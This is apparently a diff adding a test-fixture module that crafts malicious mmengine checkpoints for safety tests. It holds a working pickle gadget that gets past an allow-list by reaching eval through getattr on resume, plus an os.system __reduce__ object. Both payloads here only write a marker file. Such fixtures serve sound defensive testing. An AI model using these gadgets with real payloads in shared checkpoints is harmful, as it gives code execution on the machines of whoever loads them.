@@ -1,0 +1,71 @@
+"""Checkpoints that run code when an unsafe loader reads them (for the safety tests).
+
+Both write ``marker`` when their payload runs; nothing else.
+
+- :func:`gadget`: made only of types that an allow-list with plain
+  ``builtins.getattr`` and ``HistoryBuffer`` admits. A HistoryBuffer's state sets
+  its ``__reduce_ex__`` to ``{4: (eval, (code,))}.get``, where ``eval`` is reached
+  as ``getattr(getattr(getattr, '__self__'), 'eval')``. Loading builds it; a
+  ``copy.deepcopy`` of it (mmengine's ``MessageHub.load_state_dict`` copies every
+  ``runtime_info`` value on resume) calls ``eval(code)``.
+- :func:`classic`: an object whose ``__reduce__`` is ``(os.system, (cmd,))``: an
+  unrestricted unpickler runs the command while loading.
+"""
+import copyreg
+import os
+
+from mmengine.logging import HistoryBuffer
+
+
+class _Call:
+    """Pickles as ``func(*args)``."""
+
+    def __init__(self, func, *args):
+        self.func, self.args = func, args
+
+    def __reduce__(self):
+        return self.func, self.args
+
+
+class _Classic:
+    def __init__(self, command):
+        self.command = command
+
+    def __reduce__(self):
+        return os.system, (self.command, )
+
+
+def payload(marker: str) -> str:
+    """A Python expression that writes ``marker``."""
+    return f"__import__('pathlib').Path({str(marker)!r}).write_text('ran')"
+
+
+def gadget(marker: str) -> HistoryBuffer:
+    """The HistoryBuffer of the allow-list gadget (see the module docstring)."""
+    evaluate = _Call(getattr, _Call(getattr, getattr, '__self__'), 'eval')
+    reduce_ex = _Call(getattr, {4: (evaluate, (payload(marker), ))}, 'get')
+    buffer = HistoryBuffer()
+    buffer.update(1.0)
+    state = dict(buffer.__getstate__(), __reduce_ex__=reduce_ex)
+    # pickled as HistoryBuffer with that state (NEWOBJ + BUILD)
+    buffer.__reduce_ex__ = lambda protocol: (copyreg.__newobj__, (HistoryBuffer, ),
+                                             state)
+    return buffer
+
+
+def classic(marker: str) -> _Classic:
+    """An object that runs ``touch marker`` when unpickled."""
+    return _Classic(f'touch {marker}')
+
+
+def with_gadget(checkpoint: dict, marker: str) -> dict:
+    """``checkpoint`` (an mmengine training checkpoint) with the gadget in its
+    message hub's ``runtime_info``, where a resume deep-copies it."""
+    hub = dict(checkpoint['message_hub'])
+    hub['runtime_info'] = dict(hub['runtime_info'], evil=gadget(marker))
+    return dict(checkpoint, message_hub=hub)
+
+
+def with_classic(checkpoint: dict, marker: str) -> dict:
+    """``checkpoint`` with the classic ``__reduce__`` object in its meta."""
+    return dict(checkpoint, meta=dict(checkpoint['meta'], evil=classic(marker)))
